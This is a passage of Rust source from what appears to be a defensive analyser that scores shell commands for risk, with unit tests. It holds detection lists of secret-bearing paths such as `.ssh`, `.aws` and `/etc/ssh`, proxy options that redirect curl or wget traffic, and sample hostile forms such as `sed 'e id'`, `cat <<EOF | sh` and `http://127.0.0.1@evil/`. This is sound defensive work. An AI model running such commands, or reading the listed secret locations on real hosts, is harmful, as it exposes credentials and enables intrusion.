                    self.gathered.values.push(v.clone());
                }
                self.gather(&flag.effects, flag.runs.is_some(), flag.writes_value);
            }
            self.flag_findings(flag, name, label);
            if flag.runs == Some(Runs::Value)
                && let Some(v) = value
            {
                self.inners.push(Inner::ShellText {
                    text: v.clone(),
                    label: format!("{label} {name}"),
                    privileged: false,
                });
            }
        }
    }

    fn flag_findings(&mut self, flag: &Flag, name: &str, label: &str) {
        if flag.replaces {
            self.replaced = Some((flag.effects.clone(), flag.why.clone()));
            return;
        }
        let effects = if flag.effects.is_empty() && flag.runs.is_some() {
            vec![Effect::Exec]
        } else {
            flag.effects.clone()
        };
        let subject = format!("{label} {name}");
        for e in effects {
            let risk = flag.risk.unwrap_or(0).max(base_risk(e));
            self.findings.push(match &flag.why {
                Some(w) => Finding::about(&subject, e, risk, w),
                None => Finding::stock_phrase(&subject, e, risk),
            });
        }
    }

    fn dynamic_option(&mut self, node: &Node, a: &Word, label: &str) {
        let by_hand = node
            .flags
            .iter()
            .find(|f| f.runs.is_some() || f.effects.iter().any(|e| *e != Effect::Read))
            .and_then(|f| f.names.first());
        // A complete table lists every option, the ones that read, write,
        // run or change included; with none of those, whatever the word
        // turns out to be is harmless or refused by the tool.
        let tables = self.tables;
        let in_table = || {
            tables
                .get(label)
                .filter(|t| t.complete)?
                .options()
                .iter()
                .find(|o| o.class != OptionClass::None)?
                .names
                .first()
        };
        if let Some(example) = by_hand.or_else(in_table) {
            self.findings.push(
                Finding::about(
                    label,
                    Effect::Unknown,
                    65,
                    &format!(
                        "is given {}, only known at run time, which could be any of its options (such as {})",
                        code(&truncate(&a.raw, 40)),
                        code(example)
                    ),
                )
                .attend(),
            );
        }
    }

    fn args(&mut self, node: &Node, args: &[Word], label: &str) {
        if node.args.is_empty() {
            return;
        }
        // The patterns look for dangerous scripts (`sed 'e id'`, `awk
        // 'system(…)'`); a script only known at run time cannot be checked.
        if let Some(a) = args.iter().find(|a| !a.literal) {
            self.findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    70,
                    &format!(
                        "is given {}, only known at run time, so its script cannot be checked",
                        code(&truncate(&a.raw, 40))
                    ),
                )
                .attend(),
            );
        }
        let joined = args
            .iter()
            .map(|a| a.text.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        for p in &node.args {
            let hit = if p.joined {
                p.regex.is_match(&joined)
            } else {
                args.iter().any(|a| p.regex.is_match(&a.text))
            };
            if hit {
                let effects = if p.effects.is_empty() {
                    vec![Effect::Exec]
                } else {
                    p.effects.clone()
                };
                self.gather(&effects, false, false);
                for e in effects {
                    self.findings.push(Finding::about(
                        label,
                        e,
                        p.risk.unwrap_or(0).max(base_risk(e)),
                        &p.why,
                    ));
                }
            }
        }
    }
}

fn effects_change(findings: &[Finding]) -> bool {
    findings.iter().any(|f| {
        matches!(
            f.effect,
            Effect::Write | Effect::Delete | Effect::Unknown | Effect::Exec
        )
    })
}

/// The text an `echo` or `printf` with literal arguments prints.
fn echoed_text(inv: &Invocation) -> Option<String> {
    let (first, args) = inv.words.split_first()?;
    if first.literal && basename(&first.text) == "cat" && args.is_empty() {
        // `cat <<EOF | sh`: cat passes its here-document through.
        return match &inv.stdin {
            Stdin::Text(w) if w.literal => Some(w.text.clone()),
            _ => None,
        };
    }
    if !first.literal
        || !ECHOERS.contains(&basename(&first.text))
        || !args.iter().all(|a| a.literal)
    {
        return None;
    }
    let mut parts: Vec<String> = Vec::new();
    let mut iter = args.iter().peekable();
    let mut escapes = basename(&first.text) == "printf";
    while let Some(a) = iter.peek() {
        if basename(&first.text) == "echo"
            && matches!(a.text.as_str(), "-n" | "-e" | "-E" | "-ne" | "-en")
        {
            escapes |= a.text.contains('e');
            iter.next();
        } else {
            break;
        }
    }
    for a in iter {
        parts.push(if escapes {
            shell::decode_ansi_c(&a.text)
        } else {
            a.text.clone()
        });
    }
    Some(parts.join(" "))
}

/// Directories whose whole contents include secrets, for a path as the
/// normaliser reads it (a glob when `glob`: `/e?c` can be `/etc`).
fn secret_tree(path: &str, glob: bool) -> Option<&'static str> {
    const TREES: &[&str] = &["/", "/root", "/etc", "/home", "~"];
    const SUBTREES: &[&str] = &[
        "/etc/ssh",
        "/etc/ssl/private",
        "/etc/letsencrypt",
        "/etc/kubernetes",
        "/etc/wireguard",
        "/var/backups",
        "/var/lib/tailscale",
        "/run/secrets",
        "/proc",
    ];
    const HIDDEN: &[&str] = &[
        ".ssh",
        ".aws",
        ".kube",
        ".gnupg",
        ".docker",
        ".config",
        ".password-store",
        ".azure",
    ];
    let p = path.trim_end_matches('/');
    let p = if p.is_empty() { "/" } else { p };
    let dirs = format!("{p}/x");
    if TREES.iter().any(|t| crate::paths::could_name(p, glob, t))
        || SUBTREES
            .iter()
            .any(|t| crate::paths::could_lie_within(p, glob, t))
        || HIDDEN
            .iter()
            .any(|h| crate::paths::could_be_in_dir_named(&dirs, glob, h))
    {
        Some("secrets included")
    } else {
        None
    }
}

/// A glob that can match secrets: one in a directory that holds them
/// (`/etc/*`, `/e?c/*`, `~/.ssh/*`), or one over hidden files (`.e*`
/// matches `.env`). `reading` is a path as the normaliser reads it, or
/// what follows a place the line does not tell.
fn secret_glob(reading: &str) -> Option<&'static str> {
    let (dir, last) = match reading.rsplit_once('/') {
        Some((d, l)) => (Some(if d.is_empty() { "/" } else { d }), l),
        None => (None, reading),
    };
    if last.starts_with('.') && last.contains(['*', '?', '[']) {
        return Some("which can include hidden files such as `.env` or keys");
    }
    dir.filter(|_| reading.contains(['*', '?', '[']))
        .and_then(|d| secret_tree(d, true))
        .map(|_| "which can include secrets")
}

/// Expands `{a,b}` brace lists (not nested, at most 64 results) the way the
/// shell would; other words come back as they are.
pub fn expand_braces(text: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}').map(|c| open + c) else {
            break;
        };
        let inner = &rest[open + 1..close];
        if !inner.contains(',') {
            for o in &mut out {
                o.push_str(&rest[..=close]);
            }
            rest = &rest[close + 1..];
            continue;
        }
        let head = &rest[..open];
        let mut next = Vec::new();
        for o in &out {
            for alt in inner.split(',') {
                if next.len() >= 64 {
                    break;
                }
                next.push(format!("{o}{head}{alt}"));
            }
        }
        out = next;
        rest = &rest[close + 1..];
    }
    for o in &mut out {
        o.push_str(rest);
    }
    out
}

/// `NAME=value` as an argument word.
fn is_assignment_word(t: &str) -> bool {
    match t.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Whether the hand-written knowledge of `node` describes the option
/// spelt `name`: it then decides what the option does.
fn knows_by_hand(node: &Node, name: &str) -> bool {
    node.flags.iter().any(|f| f.names.iter().any(|n| n == name))
        || [
            &node.value_options,
            &node.command_options,
            &node.no_run_options,
            &node.directory_options,
        ]
        .iter()
        .any(|list| list.iter().any(|n| n == name))
}

/// An option word as its table resolved it: a long option spelt out
/// (`--comp=sh` is `--compress-program=sh`); other words as written.
fn spelt_out(written: &str, parsed: &Parsed) -> String {
    match parsed.items.as_slice() {
        [item] if written.starts_with("--") && item.option.is_ok() => match &item.value {
            Some(ValueAt::Attached(v)) => format!("{}={v}", item.spelling),
            _ => item.spelling.clone(),
        },
        _ => written.to_owned(),
    }
}

/// The long option `written` (`--rot`, `--se=2000-01-01`) stands for when
/// it is an abbreviation of exactly one long option the knowledge base
/// knows for `node`, as GNU getopt_long reads it: `--rotate`,
/// `--set=2000-01-01`. `None` when it is spelt out, is no long option, or
/// abbreviates none or several (getopt_long refuses an ambiguous one).
/// Expanding can only make a judgement stricter: an option the knowledge
/// base does not know stays as unknown as before.
fn expand_long_option(node: &Node, written: &str) -> Option<String> {
    let (name, value) = match written.split_once('=') {
        Some((n, v)) => (n, Some(v)),
        None => (written, None),
    };
    if !name.starts_with("--") || name.len() < 3 {
        return None;
    }
    let known = node
        .flags
        .iter()
        .flat_map(|f| f.names.iter())
        .chain(&node.value_options)
        .chain(&node.command_options)
        .chain(&node.no_run_options)
        .chain(&node.directory_options)
        .chain(&node.safe_alone)
        .filter(|k| k.starts_with("--"));
    let mut matches: Vec<&String> = Vec::new();
    for k in known {
        if k == name {
            return None;
        }
        if k.starts_with(name) && !matches.contains(&k) {
            matches.push(k);
        }
    }
    match matches.as_slice() {
        [only] => Some(match value {
            Some(v) => format!("{only}={v}"),
            None => (*only).clone(),
        }),
        _ => None,
    }
}

/// Trees where a homelab keeps secrets among everything else: stacks and
/// their `.env` files, homes with keys, system configuration, container
/// volumes. A recursive read at, above or inside one reads them.
const TREES_HOLDING_SECRETS: &[&str] = &[
    "/srv",
    "/opt",
    "/home",
    "/root",
    "/etc",
    "/var/lib/docker",
    "/var/lib/containers",
    "/var/lib/kubelet",
    "/var/lib/rancher",
    "/var/snap",
    "/mnt",
    "/media",
    "/data",
    "~",
];

/// Whether a search tool's first operand is its pattern: it has pattern
/// options and none of them is on the line (`grep -e P`, `--file=F`, `-ePAT`).
fn pattern_operand(node: &Node, args: &[Word]) -> bool {
    !node.pattern_options.is_empty()
        && !args.iter().any(|a| {
            node.pattern_options.iter().any(|o| {
                a.text == *o
                    || (o.starts_with("--") && a.text.starts_with(&format!("{o}=")))
                    || (!o.starts_with("--") && a.text.starts_with(o.as_str()))
            })
        })
}

/// Whether `path` is `tree`, inside it, or above it (`/` holds every tree).
fn holds_or_is_within(path: &str, tree: &str) -> bool {
    let inside = |a: &str, b: &str| {
        a == b || (a.starts_with(b) && (b.ends_with('/') || a[b.len()..].starts_with('/')))
    };
    inside(path, tree) || inside(tree, path)
}

/// Splits a tool's arguments into its own commands at `separators` (see
/// `NodeSpec::statement_separators`): the first command's words, the
/// others', and whether a word known only at run time could hide a
/// separator.
fn split_statements(args: &[Word], separators: &[String]) -> (Vec<Word>, Vec<Vec<Word>>, bool) {
    let inside_words = separators.iter().any(|s| s == ";");
    let mut pieces: Vec<Vec<Word>> = vec![Vec::new()];
    let mut unknown = false;
    for a in args {
        if !a.literal {
            unknown = true;
        }
        if a.literal && separators.contains(&a.text) {
            pieces.push(Vec::new());
            continue;
        }
        if a.literal && inside_words && a.text.contains([';', '\n']) {
            for (k, part) in a.text.split([';', '\n']).enumerate() {
                if k > 0 {
                    pieces.push(Vec::new());
                }
                for w in part.split_whitespace() {
                    if let Some(current) = pieces.last_mut() {
                        current.push(Word::literal(w));
                    }
                }
            }
            continue;
        }
        if let Some(current) = pieces.last_mut() {
            current.push(a.clone());
        }
    }
    let mut pieces = pieces.into_iter();
    let head = pieces.next().unwrap_or_default();
    (head, pieces.filter(|p| !p.is_empty()).collect(), unknown)
}

/// The last path component; `rm` for `/bin/rm`.
pub fn basename(path: &str) -> &str {
    let trimmed = path.trim_end_matches('/');
    trimmed.rsplit('/').next().unwrap_or(trimmed)
}

/// Joins a literal target onto a known directory, folding `.` and `..` as
/// text. `None` when the result is only known at run time. What the host
/// would open is [`crate::paths::resolve`]'s to say; this is the lexical
/// reading alone.
pub fn resolve(cwd: Option<&str>, target: &str) -> Option<String> {
    let joined = if target.starts_with('/') || target.starts_with('~') {
        target.to_owned()
    } else {
        format!("{}/{target}", cwd?)
    };
    Some(normalize_path(&joined))
}

/// Folds `//`, `/./` and `/..` in an absolute path as text; keeps `~`
/// prefixes (see [`crate::paths::fold_lexically`]).
pub fn normalize_path(path: &str) -> String {
    crate::paths::fold_lexically(path)
}

/// Reads one invocation's arguments (the words after the program name, as
/// the program receives them) for what its scripts do.
type ScriptReader = fn(&[String]) -> crate::script::ScriptEffects;

/// The reader for a program whose arguments carry a script in its own
/// language, by the knowledge base's name for it.
fn script_reader(program: &str) -> Option<ScriptReader> {
    match program {
        "sed" => Some(crate::sed::effects),
        "awk" => Some(crate::awk::effects),
        "jq" => Some(crate::jq::effects_jq),
        "yq" => Some(crate::jq::effects_yq),
        _ => None,
    }
}

fn looks_like_remote_address(t: &str) -> bool {
    let lower = t.to_ascii_lowercase();
    for scheme in [
        "http://", "https://", "ftp://", "tcp://", "udp://", "ssh://", "rsync://", "s3://", "git@",
    ] {
        if let Some(rest) = lower.strip_prefix(scheme) {
            return !is_loopback_host(rest);
        }
    }
    false
}

/// Long options (curl's, wget's) that send a request somewhere other than
/// the host its URL names: proxies, name and connection overrides, config
/// files that can hold them. Matched as prefixes too, as the tools read
/// abbreviations.
const TRAFFIC_ELSEWHERE: &[&str] = &[
    "--proxy",
    "--preproxy",
    "--proxy1.0",
    "--socks4",
    "--socks4a",
    "--socks5",
    "--socks5-hostname",
    "--connect-to",
    "--resolve",
    "--doh-url",
    "--config",
    "--execute",
    "--use-askpass",
];

/// Whether `a` is an option that may send the request elsewhere (see
/// [`TRAFFIC_ELSEWHERE`]); short ones in any cluster: `-x` (proxy), `-K`
/// (config file), `-e` (wget's startup commands).
fn sends_traffic_elsewhere(a: &str) -> bool {
    if let Some(long) = a.strip_prefix("--") {
        let name = long.split('=').next().unwrap_or("");
        return name.len() >= 2
            && TRAFFIC_ELSEWHERE
                .iter()
                .any(|o| o[2..].starts_with(name) || name.starts_with(&o[2..]));
    }
    a.strip_prefix('-')
        .is_some_and(|cluster| cluster.contains(['x', 'K', 'e']))
}

/// Whether the arguments name network addresses and all of them are this host.
fn only_loopback(args: &[Word]) -> bool {
    if args.iter().any(|a| sends_traffic_elsewhere(&a.text)) {
        return false;
    }
    let mut any = false;
    for a in args {
        let lower = a.text.to_ascii_lowercase();
        let rest = ["http://", "https://"]
            .iter()
            .find_map(|s| lower.strip_prefix(s));
        match rest {
            Some(rest) if a.literal && is_loopback_host(rest) => any = true,
            Some(_) => return false,
            None if lower.contains("://") => return false,
            None => {}
        }
    }
    any
}

/// Whether the URL whose text after the scheme is `rest` names this host,
/// read as URL parsers read it: the authority ends at `/`, `?` or `#`, a
/// user part before its last `@` is not the host (`http://127.0.0.1@evil/`
/// goes to `evil`), and the host is `localhost`, an IPv4 address in
/// 127.0.0.0/8 written as four decimal numbers, or `[::1]`. Anything
/// unusual in the authority (escapes, backslashes) is not this host.
fn is_loopback_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    if authority
        .chars()
        .any(|c| !(c.is_ascii_alphanumeric() || ".-_:[]@".contains(c)))
    {
        return false;
    }
    let host_port = authority.rsplit('@').next().unwrap_or("");
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        match v6.split_once(']') {
            Some((addr, _)) => {
                return addr
                    .parse::<std::net::Ipv6Addr>()
                    .is_ok_and(|ip| ip.is_loopback());
            }
            None => return false,
        }
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    host.eq_ignore_ascii_case("localhost")
        || host
            .parse::<std::net::Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback())
}

fn looks_like_shell_code(t: &str) -> bool {
    t.contains("$(")
        || t.contains('`')
        || t.contains("; ")
        || t.contains("&&")
        || t.contains("| ")
        || t.contains("||")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalizes_paths() {
        assert_eq!(normalize_path("/tmp/../"), "/");
        assert_eq!(normalize_path("//etc/./"), "/etc");
        assert_eq!(normalize_path("/a/b/../../.."), "/");
        assert_eq!(normalize_path("~/x/.."), "~");
        assert_eq!(resolve(Some("/tmp"), ".."), Some("/".into()));
        assert_eq!(resolve(None, "x"), None);
        assert_eq!(resolve(None, "/srv"), Some("/srv".into()));
    }

    #[test]
    fn basenames() {
        assert_eq!(basename("/bin/rm"), "rm");
        assert_eq!(basename("rm"), "rm");
        assert_eq!(basename("./x/"), "x");
    }

    fn load(text: &str) -> Result<Knowledge, Vec<KnowledgeError>> {
        let file: KnowledgeFile = toml::from_str(text).expect("knowledge TOML");
        let mut kb = Knowledge::default();
        kb.add(file).map(|()| kb)
    }

    #[test]
    fn helpers_are_checked_at_load() {
        for (helper, problem) in [
            ("", "is empty"),
            ("bin/x", "relative path"),
            ("./x", "relative path"),
            ("/usr/*/git", "glob outside its last component"),
            ("git-*", "bare name with a glob"),
            ("/usr/lib/", "ends with `/`"),
            ("/usr/../bin/x", "`.` or `..`"),
            ("a b", "white space"),
        ] {
            let text = format!(
                "[program.frob]\nfamily = \"files\"\neffects = [\"read\"]\n\
                 [program.frob.sub.x]\neffects = [\"read\"]\nhelpers = [{helper:?}]\n"
            );
            let errors = load(&text).expect_err(helper);
            assert_eq!(errors.len(), 1, "{helper}: {errors:?}");
            assert_eq!(errors[0].place, "program.frob.sub.x.helpers", "{helper}");
            assert!(
                errors[0].problem.contains(problem),
                "{helper}: {}",
                errors[0].problem
            );
        }
        let kb = load(
            "[program.frob]\nfamily = \"files\"\neffects = [\"read\"]\n\
             helpers = [\"gzip\", \"/usr/lib/frob/frob-*\", \"/usr/bin/frob2\"]\n",
        )
        .expect("valid helpers load");
        let frob = kb.program("frob").expect("frob");
        assert_eq!(frob.node.helpers().len(), 3);
        assert_eq!(frob.node.writes(), Writes::Unknown);
    }

    #[test]
    fn write_modes_are_inherited_and_checked() {
        let kb = load(
            "[program.frob]\nfamily = \"files\"\neffects = [\"write\"]\nwrites = \"operands\"\n\
             [program.frob.sub.a]\neffects = [\"write\"]\n\
             [program.frob.sub.b]\neffects = [\"write\"]\nwrites = \"unknown\"\n",
        )
        .expect("loads");
        let frob = kb.program("frob").expect("frob");
        assert_eq!(frob.node.writes(), Writes::Operands);
        assert_eq!(frob.node.sub["a"].writes(), Writes::Operands);
        assert_eq!(frob.node.sub["b"].writes(), Writes::Unknown);
        let errors = load(
            "[program.frob]\nfamily = \"files\"\ndirectory_options = [\"C\"]\n\
             [[program.frob.flag]]\nnames = [\"-o\"]\nwrites_value = true\n",
        )
        .expect_err("bad");
        let places: Vec<&str> = errors.iter().map(|e| e.place.as_str()).collect();
        assert!(
            places.contains(&"program.frob.directory_options"),
            "{places:?}"
        );
        assert!(
            places.contains(&"program.frob.flag[-o].writes_value"),
            "{places:?}"
        );
    }

    #[test]
    fn assignment_words() {
        assert!(is_assignment_word("LD_PRELOAD=/tmp/x.so"));
        assert!(!is_assignment_word("--opt=x"));
        assert!(!is_assignment_word("=x"));
        assert!(!is_assignment_word("1A=x"));
    }
}
